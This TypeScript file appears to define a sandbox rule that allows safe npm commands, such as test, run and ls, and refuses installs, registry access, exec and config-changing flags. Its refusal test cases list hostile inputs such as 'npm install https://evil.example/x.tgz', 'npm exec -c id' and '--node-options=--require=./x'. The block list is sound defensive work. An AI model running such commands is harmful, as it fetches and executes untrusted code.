import { elsewhere, fetchesTool, installs, refuseAll, registry, settings } from './package-scripts.ts';
import type { Form, Program } from './rule.ts';

/** npm reads its own flags after a script's name, too, up to `--`. */
const form: Form = {
  flags: `
    -s --silent --if-present --workspaces -ws --include-workspace-root --ignore-scripts
    --foreground-scripts -q --quiet -d --offline -w=module --workspace=module --loglevel=name
    --color[=name] --prefix=start
  `,
  wordFlags: true,
  afterDashes: 'argument...',
  refused: {
    ...refuseAll(elsewhere, '-C -g --global'),
    ...refuseAll(
      settings,
      '--userconfig --globalconfig --script-shell --node-options --shell --registry --cache',
    ),
    '--watch': { reason: 'npm itself would interpret this flag', instead: 'put it after --' },
  },
};

export const npm: Program = {
  names: ['npm'],
  reason: 'runs the scripts of package.json, which the sandbox contains',
  ...form,
  flags: `${form.flags} -v --version`,
  refused: {
    ...form.refused,
    ...refuseAll(
      installs,
      'install i add update up upgrade uninstall remove rm dedupe prune rebuild link install-test it audit',
    ),
    ...refuseAll(
      registry,
      'publish unpublish login logout adduser whoami token access owner team search star deprecate dist-tag info view show outdated profile org hook ping pack version fund',
    ),
    ...refuseAll(fetchesTool, 'create init exec x'),
    ...refuseAll(settings, 'config set get edit explore cache pkg'),
  },
  subcommands: [
    {
      names: ['test', 't'],
      reason: 'runs the test script',
      ...form,
      operands: ['argument...'],
      match: [
        'npm test',
        "npm test -- --grep 'rm -rf'",
        'npm test --silent',
        'npm t',
        'npm test -w packages/a',
        'npm test src/a.test.ts',
      ],
      notMatch: [
        'npm test --userconfig=./x',
        'npm -C evil test',
        'npm --node-options=--require=./x test',
        'npm tst --x',
        'npm test --prefix /tmp',
      ],
    },
    {
      names: ['run', 'run-script'],
      reason: 'runs a script of package.json, or lists them',
      ...form,
      operands: ['script', 'argument...'],
      match: [
        'npm run',
        'npm run build',
        'npm run lint -- --fix src',
        'npm run test:unit --if-present',
        'npm --silent run build',
        'npm run -s build',
      ],
      notMatch: ['npm rum build', 'npm run build --script-shell=./x', 'npm run ../x', "npm run 'a b'"],
    },
    {
      names: ['start', 'restart', 'stop'],
      reason: 'runs a script of package.json, within the time limit',
      ...form,
      operands: ['argument...'],
      match: ['npm start'],
      notMatch: ['npm start --shell=x'],
    },
    {
      names: ['ci'],
      reason: 'restores the locked packages without running their scripts',
      ...form,
      flags: `${form.flags} --no-audit --no-fund --prefer-offline`,
      operands: [],
      needs: { flags: ['--ignore-scripts'], refused: installs },
      match: ['npm ci --ignore-scripts', 'npm ci --ignore-scripts --no-audit'],
      notMatch: ['npm ci', 'npm ci evil', 'npm ci --ignore-scripts=false'],
    },
    {
      names: ['ls', 'list', 'explain', 'why', 'root', 'bin', 'query'],
      reason: 'lists the installed packages',
      ...form,
      flags: `
        ${form.flags} -a --all --json --long -l --parseable -p
        --depth=number --omit=name
      `,
      operands: ['name...'],
      match: ['npm ls', 'npm ls react --depth=0', 'npm why zod', 'npm ls --depth 1'],
      notMatch: ['npm ls -g', 'npm ls --prefix /x'],
    },
    {
      names: ['pkg get'],
      reason: 'reads package.json',
      ...form,
      operands: ['name...'],
      match: ['npm pkg get scripts', 'npm pkg get scripts.test version'],
      notMatch: ['npm pkg set scripts.test=id', 'npm pkg delete scripts', 'npm pkg get -w /x'],
    },
    {
      names: ['help'],
      reason: 'prints help',
      operands: ['name'],
      match: ['npm help'],
      notMatch: ['npm help --viewer=x'],
    },
  ],
  match: ['npm --version', 'npm -v', 'npm --prefix web test', 'npm run build --prefix packages/a'],
  notMatch: [
    'npm install',
    'npm install left-pad',
    'npm install https://evil.example/x.tgz',
    'npm exe -c id',
    'npm exec -c id',
    'npm publish',
    'npm config ls -l',
    'npm link',
    'npm create evil@latest',
  ],
};
